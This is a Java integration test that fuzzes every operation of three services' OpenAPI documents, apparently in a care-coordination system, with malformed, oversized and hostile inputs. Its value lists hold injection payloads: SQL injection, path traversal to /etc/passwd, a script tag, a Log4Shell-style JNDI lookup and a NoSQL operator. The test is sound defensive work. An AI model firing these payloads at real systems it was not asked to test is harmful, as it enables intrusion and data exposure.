package org.careloop.system;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.careloop.servers.ApiClient;
import org.careloop.servers.ApiClient.Response;
import org.careloop.testing.RawHttp;
import org.junit.jupiter.api.Test;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * S9: every operation of every service's OpenAPI document, called with malformed, huge and hostile values in its
 * path, its query and its body; every body-taking operation also gets a body over the 1 MiB limit, chunked and with
 * a Content-Length (413 both). Pass = no 5xx, no stack trace or exception name in any answer, no hostile request
 * answered 2xx when it changes something, and no row added to a table that only the API writes.
 */
class FuzzIntegrationTests {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    /** Values for path and query parameters; the full-size run adds more of each kind. */
    private static final List<String> HOSTILE_VALUES = Scenario.FULL_SIZE
            ? List.of("not-a-uuid", "' OR '1'='1' --", "../../etc/passwd", "%00", "-1", "99999999999999999999999999",
                    "<script>alert(1)</script>", "${jndi:ldap://x/a}", "\u0000", "é💀\u202e", "x".repeat(4000), "",
                    " ", "null", "true", "[]", "{}", "0x1p3", "1e309", "NaN")
            : List.of("not-a-uuid", "' OR '1'='1' --", "../../etc/passwd", "-1", "99999999999999999999999999",
                    "<script>alert(1)</script>", "\u0000", "x".repeat(3000), "", "1e309");
    private static final List<String> HOSTILE_BODIES = List.of("", "{", "[]", "null", "\"text\"", "123",
            "[".repeat(5000) + "]".repeat(5000), "{\"x\":" + "{\"x\":".repeat(3000) + "1" + "}".repeat(3001),
            "\u0000\u0001", "{\"patient\":" + "\"" + "y".repeat(200_000) + "\"}",
            // deeper than the services' Jackson limit (64) but within Jackson's default (500)
            "{\"x\":".repeat(100) + "1" + "}".repeat(100));
    /** Bodies over the 1 MiB limit, sent chunked (no Content-Length) and with a Content-Length: 413 either way. */
    private static final long OVERSIZED = 2L * 1024 * 1024;
    private static final List<String> WRONG_TYPES = Scenario.FULL_SIZE
            ? List.of("123", "\"" + "z".repeat(10_000) + "\"", "[1,2]", "{\"$gt\":\"\"}", "true",
                    "-99999999999999999999", "1.5e400")
            : List.of("123", "\"" + "z".repeat(10_000) + "\"", "[1,2]", "{\"$gt\":\"\"}");
    /** Tables that only requests through the API write (event-driven ones fill up from other tests' events). */
    private static final Map<String, List<String>> API_TABLES = Map.of(
            "cases", List.of("care_case", "family_member", "assessment", "wishes"),
            "referrals", List.of("referral", "organization", "directory_service"),
            "notifications", List.of("notification_read"));

    private final Scenario scenario = new Scenario();
    private final Stack stack = scenario.stack;

    @Test
    void s9_everyOperationFuzzedFromItsOpenApiDocument() {
        Map<String, ApiClient> services = new LinkedHashMap<>();
        services.put("cases", scenario.cases);
        services.put("referrals", scenario.referrals);
        services.put("notifications", scenario.notifications);
        String realCase = scenario.caseKnownToReferrals(scenario.token("sam"));
        Map<String, Long> rowsBefore = apiRows();
        List<String> findings = new ArrayList<>();
        int requests = 0;
        int operations = 0;
        long started = System.nanoTime();

        for (var service : services.entrySet()) {
            JsonNode document = JSON.readTree(service.getValue().get("/v3/api-docs", null).body());
            for (var path : document.get("paths").properties()) {
                for (var operation : path.getValue().properties()) {
                    String method = operation.getKey().toUpperCase(java.util.Locale.ROOT);
                    if (!List.of("GET", "POST", "PUT", "DELETE", "PATCH").contains(method)
                            || path.getKey().endsWith("/stream")) {
                        continue; // the live stream never ends by design; its parameters are none
                    }
                    operations++;
                    List<String> pathParams = new ArrayList<>();
                    List<String> queryParams = new ArrayList<>();
                    for (JsonNode parameter : operation.getValue().path("parameters")) {
                        ("path".equals(parameter.get("in").asString()) ? pathParams : queryParams)
                                .add(parameter.get("name").asString());
                    }
                    String token = path.getKey().startsWith("/api/directory") ? scenario.token("adam")
                            : scenario.token("sam");
                    List<String[]> calls = new ArrayList<>(); // path, body
                    for (String value : HOSTILE_VALUES) {
                        String hostilePath = path.getKey();
                        for (String name : pathParams) {
                            hostilePath = hostilePath.replace("{" + name + "}", encode(value));
                        }
                        calls.add(new String[] { hostilePath, "{}" });
                        String validPath = path.getKey();
                        for (String name : pathParams) {
                            validPath = validPath.replace("{" + name + "}",
                                    name.equals("caseId") || name.equals("id") ? realCase : UUID.randomUUID().toString());
                        }
                        for (String name : queryParams) {
                            calls.add(new String[] { validPath + "?" + name + "=" + encode(value), "{}" });
                        }
                    }
                    if (operation.getValue().has("requestBody")) {
                        String validPath = path.getKey().replaceAll("\\{[^}]+}", realCase);
                        for (String body : HOSTILE_BODIES) {
                            calls.add(new String[] { validPath, body });
                        }
                        for (String body : typeConfusions(document, operation.getValue())) {
                            calls.add(new String[] { validPath, body });
                        }
                    }
                    if (operation.getValue().has("requestBody")) {
                        String validPath = path.getKey().replaceAll("\\{[^}]+}", realCase);
                        Map<String, String> headers = Map.of("Authorization", "Bearer " + token, "Content-Type",
                                "application/json");
                        RawHttp raw = RawHttp.to(service.getValue().baseUrl());
                        for (RawHttp.Answer answer : List.of(
                                raw.chunked(method, validPath, headers, OVERSIZED, 16 * 1024),
                                raw.withLength(method, validPath, headers, OVERSIZED))) {
                            requests++;
                            if (answer.status() != 413) {
                                findings.add(service.getKey() + " " + method + " " + shorten(validPath) + " with "
                                        + OVERSIZED + " bytes -> " + answer.status() + ", not 413");
                            }
                        }
                    }
                    for (String[] call : calls) {
                        requests++;
                        Response response;
                        try {
                            response = service.getValue().send(method, call[0], token,
                                    method.equals("GET") || method.equals("DELETE") ? null : call[1],
                                    method.equals("GET") || method.equals("DELETE") ? null : "application/json");
                        } catch (RuntimeException e) {
                            findings.add(method + " " + call[0] + ": no answer (" + e.getMessage() + ")");
                            continue;
                        }
                        String what = service.getKey() + " " + method + " " + shorten(call[0]) + " body "
                                + shorten(call[1]) + " -> " + response.status();
                        if (response.status() >= 500) {
                            findings.add(what + " " + shorten(response.body()));
                        }
                        if (response.body() != null && (response.body().contains("Exception")
                                || response.body().contains("\tat ") || response.body().contains("at org.")
                                || response.body().contains("at java."))) {
                            findings.add(what + " shows a stack trace or an exception");
                        }
                        if (!method.equals("GET") && response.status() < 300) {
                            findings.add(what + ": a hostile change was accepted");
                        }
                    }
                }
            }
        }
        assertThat(findings).as("fuzz findings").isEmpty();
        assertThat(apiRows()).as("rows in tables only the API writes").isEqualTo(rowsBefore);
        Scenario.report("S9", "%d operations of 3 OpenAPI documents, %d hostile requests in %d s: no 5xx, no stack "
                .formatted(operations, requests, (System.nanoTime() - started) / 1_000_000_000)
                + "trace, no hostile change accepted, no row stored");
    }

    /** For each property of the request body's schema, a body where only that property has the wrong type. */
    private static List<String> typeConfusions(JsonNode document, JsonNode operation) {
        JsonNode schema = operation.path("requestBody").path("content").path("application/json").path("schema");
        if (schema.has("$ref")) {
            String name = schema.get("$ref").asString().substring("#/components/schemas/".length());
            schema = document.path("components").path("schemas").path(name);
        }
        List<String> bodies = new ArrayList<>();
        for (var property : schema.path("properties").properties()) {
            for (String wrong : WRONG_TYPES) {
                bodies.add("{\"" + property.getKey() + "\":" + wrong + "}");
            }
        }
        return bodies;
    }

    private Map<String, Long> apiRows() {
        Map<String, Long> rows = new java.util.TreeMap<>();
        API_TABLES.forEach((database, tables) -> tables.forEach(table ->
                rows.put(database + "." + table, scenario.count(database, "select count(*) from " + table))));
        return rows;
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static String shorten(String text) {
        return text == null ? "" : text.length() > 120 ? text.substring(0, 120) + "…" : text;
    }
}
